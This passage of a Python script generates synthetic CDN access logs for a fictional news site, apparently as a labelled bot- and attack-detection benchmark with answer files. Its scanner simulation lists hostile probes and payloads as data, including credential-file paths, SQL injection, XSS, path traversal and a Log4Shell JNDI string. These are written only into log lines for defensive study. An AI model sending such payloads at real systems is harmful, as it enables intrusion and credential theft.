                "ua": WIN_FIREFOX.format(v=145),
                "actor": self.new_actor("pwby"),
            }
        ip, ua, actor = self._pb["ip"], self._pb["ua"], self._pb["actor"]
        t = day0 + 7 * 3600 + r.uniform(0, 1200)
        jar = None
        since_clear = 0
        reset_every = r.choice([3, 4, 4, 5])
        while t < day0 + 23 * 3600:
            if since_clear >= reset_every:
                jar, since_clear, reset_every = None, 0, r.choice([3, 4, 4, 5])
            if since_clear == 0 and r.random() < 0.5:
                # lands on the home page or a section front to find today's articles
                path = "/" if r.random() < 0.5 else "/%s/" % r.choice(SECTIONS)[0]
                ck = None if jar is None else "rn_vid=%s; rn_meter=%d.2026-11" % (jar[0], jar[1])
                self.emit(t, ip, "GET", path, None, 200, None, ua, ck, "html", label, label, actor)
                if jar is None:
                    jar = (self.tok(22), 0)
                t += r.uniform(2, 6)
            a = self.pick_article(t)
            ck = None if jar is None else "rn_vid=%s; rn_meter=%d.2026-11" % (jar[0], jar[1])
            self.emit(
                t,
                ip,
                "GET",
                a.path,
                None,
                200,
                "https://%s/" % SITE if r.random() < 0.5 else None,
                ua,
                ck,
                "html",
                label,
                label,
                actor,
            )
            jar = (jar[0], jar[1] + 1) if jar else (self.tok(22), 1)
            since_clear += 1
            t += r.uniform(25, 110)
            if r.random() < 0.02:
                t += r.uniform(600, 2400)

    def credential_stuffing(self, day0, start_h, minutes, attempts, label="credential_stuffing"):
        """Credential stuffing against subscriber logins through residential proxies: a new home or mobile
        address and browser agent every one or two attempts, a fresh cookie jar."""
        r = self.rng
        uas = [u for u, _, _ in MOBILE_UAS] + [u for u, _, _ in DESKTOP_UAS]
        tot_w = sum(w for _, _, w in RESI_WORLD)
        t = day0 + start_h * 3600
        rate = attempts / (minutes * 60.0)
        actor = self.new_actor("stuf")
        n = 0
        while n < attempts:
            if r.random() < 0.35:  # UK mobile carriers' CGNAT too
                ip = r.choice(self.cgnat[r.choice(list(CARRIERS))])
            else:
                x = r.random() * tot_w
                for cidr, edge, w in RESI_WORLD:
                    x -= w
                    if x <= 0:
                        break
                ip = self.net.addr(cidr, edge)
            ua = r.choice(uas)
            vid = self.tok(22)
            tt = t
            if r.random() < 0.6:
                self.emit(tt, ip, "GET", "/account/login", None, 200, None, ua, None, "html", label, label, actor)
                tt += r.uniform(0.8, 3)
                ck = "rn_vid=%s; rn_meter=0.2026-11" % vid
            else:
                ck = None
            for k in range(r.choice([1, 1, 1, 2])):
                ok = r.random() < 0.025
                self.emit(
                    tt,
                    ip,
                    "POST",
                    "/account/login",
                    None,
                    302 if ok else 200,
                    "https://%s/account/login" % SITE,
                    ua,
                    ck,
                    "html",
                    label,
                    label,
                    actor,
                    610 if ok else r.randint(9200, 9800),
                    "Miss",
                )
                n += 1
                if ok:
                    ck2 = (ck or "rn_vid=%s" % vid) + "; rn_session=%s; rn_sub=1" % self.hexs(32)
                    self.emit(
                        tt + r.uniform(0.5, 2),
                        ip,
                        "GET",
                        "/account/",
                        None,
                        200,
                        "https://%s/account/login" % SITE,
                        ua,
                        ck2,
                        "html",
                        label,
                        label,
                        actor,
                    )
                    break
                tt += r.uniform(1, 4)
            t += r.expovariate(rate)

    def comment_spam(self, day0, start_h, accounts, per_account, label="comment_spam"):
        r = self.rng
        ip = self.net.addr(CLOUD["m247"][0], CLOUD["m247"][1])
        for k in range(accounts):
            ua = r.choice([WIN_CHROME.format(v=142), WIN_CHROME.format(v=139)])
            actor = self.new_actor("spam")
            sess = self.hexs(32)
            vid = self.tok(22)
            t = day0 + start_h * 3600 + k * r.uniform(600, 1800)
            ck0 = "rn_vid=%s; rn_meter=0.2026-11" % vid
            self.emit(t, ip, "GET", "/account/login", None, 200, None, ua, None, "html", label, label, actor)
            t += r.uniform(3, 8)
            self.emit(
                t,
                ip,
                "POST",
                "/account/login",
                None,
                302,
                "https://%s/account/login" % SITE,
                ua,
                ck0,
                "html",
                label,
                label,
                actor,
                610,
                "Miss",
            )
            ck = ck0 + "; rn_session=%s" % sess
            posted = 0
            for j in range(per_account):
                t += r.uniform(8, 45)
                a = self.pick_article(t)
                self.emit(t, ip, "GET", a.path, None, 200, None, ua, ck, "html", label, label, actor)
                t += r.uniform(2.5, 6)
                st = 201 if posted < 20 else 429
                self.emit(
                    t,
                    ip,
                    "POST",
                    "/api/comments",
                    "aid=%d" % a.aid,
                    st,
                    "https://%s%s" % (SITE, a.path),
                    ua,
                    ck,
                    "json",
                    label,
                    label,
                    actor,
                    r.randint(380, 900),
                    "Miss",
                )
                posted += 1

    def vuln_scan(self, day0, start_h, cloud, ua, n, label="vuln_scanner"):
        r = self.rng
        ip = self.net.addr(CLOUD[cloud][0], CLOUD[cloud][1])
        actor = self.new_actor("scan")
        probes = [
            "/wp-login.php",
            "/wp-admin/",
            "/xmlrpc.php",
            "/.env",
            "/.git/config",
            "/.git/HEAD",
            "/admin/",
            "/administrator/",
            "/phpmyadmin/",
            "/server-status",
            "/actuator/env",
            "/actuator/health",
            "/.aws/credentials",
            "/config.json",
            "/backup.zip",
            "/db.sql",
            "/.DS_Store",
            "/api/v1/users",
            "/graphql",
            "/swagger.json",
            "/api/swagger-ui.html",
            "/.well-known/security.txt",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/cgi-bin/luci/;stok=/locale",
            "/owa/auth/logon.aspx",
            "/remote/login",
            "/solr/admin/info/system",
            "/console/",
            "/jenkins/login",
            "/wp-content/plugins/revslider/readme.txt",
            "/.svn/entries",
            "/index.php",
            "/info.php",
            "/test.php",
            "/api/v2/debug",
            "/_next/static/../../../etc/passwd",
        ]
        injections = [
            ("/search", "q=%27%20OR%20%271%27%3D%271"),
            ("/search", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            ("/api/comments", "aid=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
            ("/api/meter", "aid=../../../../etc/passwd"),
            ("/search", "q=%7B%7B7*7%7D%7D"),
            ("/api/weather/widget", "loc=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fa%7D"),
            ("/account/login", "next=https%3A%2F%2Fevil.example%2F"),
            ("/search", "q=1%27%20AND%20SLEEP(5)--"),
        ]
        t = day0 + start_h * 3600
        for i in range(n):
            t += r.expovariate(8.0)
            if r.random() < 0.75:
                p = r.choice(probes)
                if r.random() < 0.3:
                    p = r.choice(["/wp-content", "/old", "/backup", "/dev", "/staging", "/api"]) + p
                st = 404 if r.random() < 0.85 else 403
                self.emit(
                    t,
                    ip,
                    "GET",
                    p,
                    None,
                    st,
                    None,
                    ua,
                    None,
                    "html",
                    label,
                    label,
                    actor,
                    r.randint(400, 1200),
                    "Error",
                    "HTTP/1.1",
                )
            else:
                p, q = r.choice(injections)
                st = r.choice([200, 400, 403])
                self.emit(
                    t,
                    ip,
                    r.choice(["GET", "GET", "POST"]),
                    p,
                    q,
                    st,
                    None,
                    ua,
                    None,
                    "html",
                    label,
                    label,
                    actor,
                    None,
                    "Miss",
                    "HTTP/1.1",
                )

    def attacks(self, d):
        day0 = self.t0 + d * 86400
        nuclei = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
        if d == 3:
            self.vuln_scan(day0, 2.3, "do_ny", nuclei, 500)
        if d == 4:
            self.ai_scraper_cloud(day0, 9, 3, workers=2, per_worker=450, clouds=["aws_ireland", "hetzner"])
        if d == 5:
            self.credential_stuffing(day0, 20.5, 40, 160)
        if d == 7:  # test day 1
            self.ai_scraper_cloud(
                day0,
                8,
                10,
                workers=12,
                per_worker=600,
                clouds=["aws_virginia", "gcp_london", "hetzner", "do_sg", "ovh", "alibaba_hk", "tencent", "azure_uk"],
            )
            self.comment_spam(day0, 19, accounts=3, per_account=40)
            self.vuln_scan(day0, 23.2, "colocrossing", WIN_CHROME.format(v=128), 650)
        if d == 8:  # test day 2: the breaking-news day
            self.ai_scraper_resi(day0, 6, 12, 5000)
            self.credential_stuffing(day0, 20.0, 90, 900)
            self.ai_scraper_cloud(day0, 15, 4, workers=4, per_worker=500, clouds=["aws_london", "do_london"])
        if d == 9:  # test day 3
            self.ai_scraper_resi(day0, 1, 9, 3500)
            self.credential_stuffing(day0, 9.0, 360, 320)
            self.comment_spam(day0, 13, accounts=2, per_account=30)
        if d >= 7:
            self.paywall_bypass(day0)

    # ---- output
    def run(self):
        for d in range(TRAIN_DAYS + TEST_DAYS):
            if self.training_liveblogs and d == 1:
                self.training_liveblog(
                    self.t0 + d * 86400,
                    18.5,
                    3,
                    7000017,
                    "council-budget-meeting-live-bin-collections-and-parking-charges",
                    500,
                )
            if self.training_liveblogs and d == 5:
                self.training_liveblog(
                    self.t0 + d * 86400,
                    14.5,
                    3,
                    7000023,
                    "calderbridge-town-v-ashby-united-live-score-and-updates",
                    900,
                )
            self.readers_day(d)
            self.bots_day(d)
            self.attacks(d)


CTYPES = {
    "html": "text/html;%20charset=utf-8",
    "css": "text/css",
    "js": "application/javascript",
    "font": "font/woff2",
    "img": "image/jpeg",
    "svg": "image/svg+xml",
    "ico": "image/x-icon",
    "json": "application/json",
    "xml": "application/xml",
}
SIZES = {
    "html": (26000, 44000),
    "css": (48211, 48211),
    "js": (152000, 188000),
    "font": (31000, 38000),
    "img": (28000, 190000),
    "svg": (3911, 3911),
    "ico": (5430, 5430),
    "json": (120, 900),
    "xml": (4000, 90000),
}
UA_SAFE = "/;:,()+=.-_*!~'@&?[]$"


def write_logs(gen, out, sorted_stream):
    r = random.Random(gen.rng.random())
    recs = gen.recs
    recs.sort(key=lambda x: x[0])
    split = gen.t0 + TRAIN_DAYS * 86400
    end = gen.t0 + (TRAIN_DAYS + TEST_DAYS) * 86400
    labels = open(os.path.join(out, "labels.csv"), "w", newline="")
    truth = open(os.path.join(out, "truth.csv"), "w", newline="")
    lw, tw = csv.writer(labels), csv.writer(truth)
    lw.writerow(["key", "label"])
    tw.writerow(["key", "label", "actor_class", "actor_id", "ip", "user_agent"])
    enc_ua = {}
    stats = {}
    for name, lo, hi in (("train.log", gen.t0, split), ("test.log", split, end)):
        part = [x for x in recs if lo <= x[0] < hi]
        # group into CloudFront's files: per hour, per edge location, one or two files each
        files = {}
        for x in part:
            h = int(x[0] // 3600)
            edge = gen.net.edge_of.get(x[1], "LHR61-P2")
            files.setdefault((h, edge), []).append(x)
        order = []
        for (h, edge), xs in files.items():
            if not sorted_stream and len(xs) > 400 and r.random() < 0.5:
                cut = r.randrange(len(xs) // 3, 2 * len(xs) // 3)
                order.append((h, r.random(), edge, xs[:cut]))
                order.append((h, r.random(), edge, xs[cut:]))
            else:
                order.append((h, r.random(), edge, xs))
        order.sort(key=lambda o: (o[0], o[1]))
        if sorted_stream:
            order = [(0, 0, None, sorted(part, key=lambda x: x[0]))]
        lineno = 0
        with open(os.path.join(out, name), "w", newline="\n") as f:
            for _, _, edge0, xs in order:
                f.write("#Version: 1.0\n#Fields: %s\n" % " ".join(FIELDS))
                lineno += 2
                for x in xs:
                    (
                        t,
                        ip,
                        method,
                        path,
                        query,
                        status,
                        ref,
                        ua,
                        cookie,
                        kind,
                        label,
                        acls,
                        actor,
                        nbytes,
                        rtype,
                        proto,
                    ) = x
                    edge = edge0 or gen.net.edge_of.get(ip, "LHR61-P2")
                    ts = dt.datetime.fromtimestamp(t, dt.timezone.utc)
                    if nbytes is None:
                        lo_b, hi_b = SIZES[kind]
                        nbytes = r.randint(lo_b, hi_b)
                    if status == 304:
                        nbytes = r.randint(280, 420)
                    if rtype is None:
                        if kind in ("css", "js", "font", "img", "svg", "ico"):
                            rtype = "Hit" if r.random() < 0.96 else "Miss"
                        elif (
                            kind == "html"
                            and method == "GET"
                            and status == 200
                            and not (cookie and "rn_session" in cookie)
                        ):
                            rtype = "Hit" if r.random() < 0.7 else r.choice(["Miss", "RefreshHit"])
                        elif status >= 400:
                            rtype = "Error"
                        else:
                            rtype = "Miss"
                    if method == "HEAD":
                        nbytes = r.randint(300, 500)
                    ttk = r.uniform(0.001, 0.02) if rtype == "Hit" else r.uniform(0.04, 0.6)
                    if status == 504:
                        ttk = r.uniform(10, 30)
                    ttfb = ttk * r.uniform(0.5, 0.98)
                    u = enc_ua.get(ua)
                    if u is None:
                        u = enc_ua[ua] = quote(ua, safe=UA_SAFE)
                    ck = quote(cookie, safe="=;,/.-_:+") if cookie else "-"
                    cs_bytes = (
                        180
                        + len(path)
                        + len(query or "")
                        + len(ua)
                        + (len(cookie) if cookie else 0)
                        + r.randint(0, 120)
                    )
                    if method == "POST":
                        cs_bytes += r.randint(60, 400)
                    ctype = CTYPES[kind] if status < 400 or kind == "json" else "text/html"
                    row = [
                        ts.strftime("%Y-%m-%d"),
                        ts.strftime("%H:%M:%S"),
                        edge,
                        str(nbytes),
                        ip,
                        method,
                        DIST_HOST,
                        quote(path, safe="/%-._~;=,"),
                        str(status),
                        ref or "-",
                        u,
                        query or "-",
                        ck,
                        rtype,
                        gen.tok(56).replace("-", "A").replace("_", "B") + "==",
                        SITE,
                        "https",
                        str(cs_bytes),
                        "%.3f" % ttk,
                        "-",
                        "TLSv1.3",
                        "TLS_AES_128_GCM_SHA256",
                        rtype,
                        proto,
                        "-",
                        "-",
                        str(r.randrange(1024, 65535)),
                        "%.3f" % ttfb,
                        rtype,
                        ctype,
                        str(max(0, nbytes - 300)) if status == 200 else "-",
                        "-",
                        "-",
                    ]
                    f.write("\t".join(row) + "\n")
                    lineno += 1
                    key = "%s:%d" % (name, lineno)
                    if label != "normal":
                        lw.writerow([key, label])
                    tw.writerow([key, label, acls, actor, ip, ua])
                    st = stats.setdefault(name, {})
                    st[acls] = st.get(acls, 0) + 1
        stats.setdefault(name, {})["_lines"] = lineno
    labels.close()
    truth.close()
    return stats


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, default=31)
    ap.add_argument("--out", required=True)
    ap.add_argument("--scale", type=float, default=1.0, help="volume of people and crawlers (1.0: ~500k lines)")
    ap.add_argument(
        "--sorted", action="store_true", help="one time-sorted stream instead of CloudFront's per-edge files"
    )
    ap.add_argument(
        "--training-liveblogs",
        action="store_true",
        help="also run two ordinary live blogs in the training week (off: the breaking story's is the first)",
    )
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    g = Gen(a.seed, a.scale, a.training_liveblogs)
    g.run()
    stats = write_logs(g, a.out, a.sorted)
    for name, st in stats.items():
        print(
            name,
            st.pop("_lines"),
            "lines:",
            ", ".join("%s %d" % kv for kv in sorted(st.items(), key=lambda kv: -kv[1])),
        )


if __name__ == "__main__":
    main()
